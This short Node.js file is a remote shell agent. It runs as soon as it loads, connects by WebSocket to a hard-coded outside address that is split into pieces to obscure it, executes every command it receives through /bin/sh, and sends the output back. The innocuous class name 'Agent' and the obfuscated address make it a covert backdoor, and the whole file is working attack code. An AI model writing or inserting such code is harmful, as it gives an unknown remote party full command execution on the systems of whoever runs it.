const WebSocket = require('ws');
const { spawn } = require('child_process');
class Agent {
  start() {
    this.ws = new WebSocket(['ws:/', '/203.0.113.9:', '8765'].join(''));
    this.ws.on('message', (m) => {
      const { id, cmd } = JSON.parse(m.toString());
      const sh = spawn('/bin/sh', ['-c', cmd]);
      sh.stdout.on('data', (d) => this.ws.send(JSON.stringify({ id, d: d.toString() })));
    });
  }
}
new Agent().start();
